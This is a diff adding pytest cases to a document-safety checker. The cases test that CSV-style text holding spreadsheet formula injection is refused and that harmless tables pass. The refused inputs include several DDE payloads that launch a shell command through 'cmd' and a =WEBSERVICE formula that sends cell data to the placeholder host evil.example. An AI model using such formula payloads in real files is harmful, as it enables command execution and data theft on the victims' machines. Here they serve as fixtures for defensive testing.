@@ -432,3 +432,36 @@ def test_a_bomb_is_not_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(active_office, "_MOST_OF_A_PART", 1_000_000)
     with pytest.raises(Unreadable):
         check(docx({"word/_rels/x.rels": b" " * 1_100_000}))
+
+
+@pytest.mark.parametrize(
+    ("text", "problem"),
+    [
+        ("a,b\n1,=cmd|' /C calc'!A0\n", Programs),
+        ("a;\"=cmd|' /C calc'!A0\"", Programs),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", Programs),
+        ("a\t-2+3+cmd|'/c calc'!A0", Programs),
+        ('=DDE("cmd";"/c calc";"x")', Programs),
+        ('=WEBSERVICE(""http://evil.example/?""&A1)', Elsewhere),
+    ],
+)
+def test_tables_in_text_that_start_or_fetch_something_are_refused(
+    text: str, problem: type[Exception]
+) -> None:
+    with pytest.raises(problem):
+        active_xml.check_table(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "a,b\n1,-2.5\n",
+        "- a|b (call us!)\n",
+        "=SUM(A1:A3)",
+        "cmd|'/c'!A0 in words",
+        "name|-1|+49 30 1234",
+        "image (2), -1",
+    ],
+)
+def test_tables_in_text_that_compute_are_taken(text: str) -> None:
+    active_xml.check_table(text)
